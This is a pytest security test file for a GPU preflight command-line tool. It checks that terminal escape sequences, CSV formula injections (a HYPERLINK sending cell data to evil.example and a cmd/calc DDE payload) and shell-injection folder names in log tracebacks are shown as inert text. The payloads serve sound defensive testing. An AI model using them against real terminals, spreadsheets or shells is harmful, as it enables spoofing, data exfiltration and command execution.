"""Output that cannot be abused: text from nodes, files and logs never reaches a terminal, a Markdown viewer, a
spreadsheet or an XML parser as something it would act on (the red team's payloads, through the real CLI)."""

from __future__ import annotations

import csv
import io
import json
from xml.etree import ElementTree

from conftest import FIXTURES, nvml_fixture, run_cli

H200 = nvml_fixture("h200-driver580.json")
ESCAPES = "\x1b]0;owned\x07\x1b[2J"  # retitle the terminal, clear the screen
HOST = "gpu-01" + ESCAPES + "\n# Injected heading\u202e"


def _report(tmp_path, name: str, host: str, message: str, command: str = "nvidia-smi", subject: str = "gpu0") -> None:
    (tmp_path / name).write_text(json.dumps({
        "schema": "preflight.report/1", "ok": False, "host": host, "inventory": {},
        "results": [{"id": "gpu.health", "title": "GPU is healthy", "status": "fail", "severity": "error",
                     "subject": subject, "message": message, "observed": None, "expected": "healthy",
                     "fix": {"title": "Drain " + ESCAPES, "steps": ["step\x1b[8m hidden"], "commands": [command]}}]}))


def _no_raw_controls(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text, repr(text[:500])


def test_fleet_text_and_markdown_show_escapes_instead_of_acting_on_them(tmp_path):
    _report(tmp_path, "a.json", HOST, "ECC " + ESCAPES, "nvidia-smi -r \x1b[2J")
    _report(tmp_path, "b.json", "gpu-02", "ECC", subject="gpu1" + ESCAPES)  # a GPU's name labels its node list
    for output_format in ("text", "markdown"):
        completed = run_cli("fleet", str(tmp_path), "--format", output_format)
        assert completed.returncode == 1, completed.stderr
        _no_raw_controls(completed.stdout)
        shown = completed.stdout.replace("\\\\", "\\").replace("\\]", "]")  # Markdown's own escapes undone
        assert "\\x1b]0;owned\\x07" in shown
        assert not any(line.startswith("# Injected") or line.startswith("## Injected")
                       for line in completed.stdout.splitlines())
    markdown = run_cli("fleet", str(tmp_path), "--format", "markdown").stdout
    # A node list is a code span (pasted as it is): the name's newline shown as \x0a, inside the span.
    assert "gpu0 on: `gpu-01\\x1b]0;owned\\x07\\x1b[2J\\x0a# Injected heading" in markdown, markdown


def test_fleet_csv_neutralises_formulas(tmp_path):
    _report(tmp_path, "a.json", '=HYPERLINK("http://evil.example/?"&A1,"click")', "x")
    _report(tmp_path, "b.json", "+cmd|' /C calc'!A0", "y")
    completed = run_cli("fleet", str(tmp_path), "--format", "csv")
    rows = list(csv.reader(io.StringIO(completed.stdout)))
    nodes = [row[0] for row in rows[1:]]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in nodes and "'+cmd|' /C calc'!A0" in nodes


def test_check_text_and_junit_show_a_hostile_gpu_name_as_text(tmp_path):
    facts = json.loads((FIXTURES / "reference-facts.json").read_text())
    facts["hostname"] = "node" + ESCAPES
    facts["nvml"]["gpus"][0]["name"] = "NVIDIA H200" + ESCAPES
    path = tmp_path / "facts.json"
    path.write_text(json.dumps(facts))
    text = run_cli("check", "--facts", str(path), "--profile", "node", "--set", "gpu.memory.min=1TB")
    assert text.returncode == 1
    _no_raw_controls(text.stdout)
    assert "\\x1b]0;owned\\x07" in text.stdout
    junit = run_cli("check", "--facts", str(path), "--profile", "node", "--set", "gpu.memory.min=1TB", "--format",
                    "junit")
    ElementTree.fromstring(junit.stdout.split("\n", 1)[1])  # well-formed XML
    _no_raw_controls(junit.stdout)
    facts_text = run_cli("facts", "--format", "text", "--nvml-fixture", H200)
    assert facts_text.returncode == 0


def test_config_show_echoes_no_raw_escapes(tmp_path):
    config = tmp_path / "config.toml"
    config.write_text('[[match]]\nhosts = "gpu-*"\nprofile = "node"\n')
    completed = run_cli("config", "show", "--config", str(config), "--host", "evil" + ESCAPES, "--gpu",
                        "GPU" + ESCAPES)
    assert completed.returncode == 0, completed.stderr
    _no_raw_controls(completed.stdout)
    assert "evil\\x1b]0;owned\\x07" in completed.stdout


def test_diagnose_shows_a_log_line_with_escape_sequences_as_text(tmp_path):
    log = tmp_path / "train.log"
    log.write_text("\x1b]0;owned\x07RuntimeError: CUDA error: out of memory \x1b[2J\x1b]8;;http://evil/\x07link\n")
    completed = run_cli("diagnose", str(log), "--no-facts")
    assert completed.returncode == 1, completed.stdout
    _no_raw_controls(completed.stdout)


# Characters a POSIX shell acts on. A value a log supplies may reach a printed command only through a capture that
# cannot hold one of them, so that pasting the command cannot run something the log's author wrote.
_SHELL_SYNTAX = " \t\n;|&$`<>'\"()"


def _regex_parser():
    import sys
    if sys.version_info >= (3, 11):
        from re import _constants as constants, _parser as parser  # type: ignore[attr-defined]
    else:
        import sre_constants as constants
        import sre_parse as parser
    return constants, parser


def _admits(items, char: str) -> bool:
    """Whether the parsed regex ``items`` can consume ``char`` (case folded as the catalog compiles: IGNORECASE)."""
    constants, _ = _regex_parser()
    c = constants
    folded = {char.lower(), char.upper()}
    categories = {
        c.CATEGORY_DIGIT: char.isdigit(), c.CATEGORY_NOT_DIGIT: not char.isdigit(),
        c.CATEGORY_SPACE: char.isspace(), c.CATEGORY_NOT_SPACE: not char.isspace(),
        c.CATEGORY_WORD: char.isalnum() or char == "_", c.CATEGORY_NOT_WORD: not (char.isalnum() or char == "_"),
    }
    for op, av in items:
        if op == c.LITERAL and chr(av) in folded:
            return True
        if op == c.NOT_LITERAL and chr(av) not in folded:
            return True
        if op == c.ANY and char != "\n":
            return True
        if op == c.IN:
            negate = any(o == c.NEGATE for o, _ in av)
            inside = any((o == c.LITERAL and chr(a) in folded) or (o == c.RANGE and any(a[0] <= ord(f) <= a[1] for f in folded))
                         or (o == c.CATEGORY and categories.get(a, False)) for o, a in av if o != c.NEGATE)
            if inside != negate:
                return True
        if op in (c.MAX_REPEAT, c.MIN_REPEAT) and _admits(av[2], char):
            return True
        if op == c.SUBPATTERN and _admits(av[-1], char):
            return True
        if op == c.BRANCH and any(_admits(branch, char) for branch in av[1]):
            return True
    return False


def _group(items, index: int):
    """The parsed body of capture group ``index`` in ``items``, or None."""
    constants, _ = _regex_parser()
    for op, av in items:
        if op == constants.SUBPATTERN:
            if av[0] == index:
                return av[-1]
            found = _group(av[-1], index)
        elif op in (constants.MAX_REPEAT, constants.MIN_REPEAT):
            found = _group(av[2], index)
        elif op == constants.BRANCH:
            found = next((g for g in (_group(b, index) for b in av[1]) if g is not None), None)
        else:
            continue
        if found is not None:
            return found
    return None


def test_values_from_a_log_reach_printed_commands_only_through_captures_without_shell_syntax():
    import re

    from preflight.engine import loader

    _, parser = _regex_parser()
    ruleset = loader.load(failures=True)
    patterns = [p for entry in list(ruleset.failures.values()) + list(ruleset.clues.values())
                for p in entry.patterns if p.regex is not None]
    checked, problems = 0, []
    for failure in ruleset.failures.values():
        lines = [line for item in failure.fix.commands for line in ((item,) if isinstance(item, str) else item)]
        for name in {n for line in lines for n in re.findall(r"\{(\w+)\}", line)}:
            group = name[len("run_"):] if name.startswith("run_") else name
            for pattern in patterns:
                index = pattern.regex.groupindex.get(group)
                if index is None:
                    continue
                body = _group(parser.parse(pattern.regex.pattern, pattern.regex.flags), index)
                checked += 1
                bad = [char for char in _SHELL_SYNTAX if _admits(body, char)]
                if bad:
                    problems.append("%s prints {%s}, which %r captures with %r" % (failure.id, name, pattern.regex.pattern, bad))
    assert checked >= 5, checked  # the commands that print a log's values (conda environments, scripts, libraries)
    assert not problems, "\n".join(problems)


def test_a_traceback_path_with_shell_syntax_or_spaces_does_not_become_the_printed_interpreter(tmp_path):
    # diagnose takes the job's interpreter from the site-packages folder a traceback shows and starts printed
    # commands with it; a folder a shell would read as more than one path is not used.
    for folder in ("/home/u/x$(touch pwned)", "/home/u/x;id", "/home/my user/env"):
        log = tmp_path / "log.txt"
        log.write_text('Traceback (most recent call last):\n  File "%s/lib/python3.10/site-packages/foo/__init__.py",'
                       " line 1, in <module>\nModuleNotFoundError: No module named 'cv2'\n" % folder)
        report = json.loads(run_cli("diagnose", str(log), "--no-facts", "--format", "json").stdout)
        commands = [command for match in report["matches"] for command in match["fix"]["commands"]]
        assert any("pip install" in command for command in commands), commands
        assert not any(folder in command for command in commands), commands
    log.write_text('Traceback (most recent call last):\n  File "/home/u/envs/yolo/lib/python3.10/site-packages/foo/'
                   "__init__.py\", line 1, in <module>\nModuleNotFoundError: No module named 'cv2'\n")
    report = json.loads(run_cli("diagnose", str(log), "--no-facts", "--format", "json").stdout)
    assert any(command.startswith("/home/u/envs/yolo/bin/python -m pip install")
               for match in report["matches"] for command in match["fix"]["commands"])
